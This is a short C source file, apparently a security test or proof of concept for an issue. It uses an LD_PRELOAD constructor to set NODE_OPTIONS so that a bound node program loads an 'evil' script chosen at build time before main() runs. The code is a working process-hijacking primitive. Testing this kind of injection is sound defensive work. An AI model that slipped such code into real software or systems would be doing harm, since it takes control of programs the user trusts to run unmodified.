/*
 * LD_PRELOAD injection into the bound node program (issue 13): this constructor runs inside node
 * before its main() and takes control of what node runs, by setting NODE_OPTIONS in the live
 * environment (not in the exec-time one, which only shows LD_PRELOAD). Built with
 * -DEVIL_REQUIRE='"<path of the evil script>"'.
 */
#include <stdlib.h>

__attribute__((constructor)) static void take_over(void)
{
	setenv("NODE_OPTIONS", "--require=" EVIL_REQUIRE, 1);
}
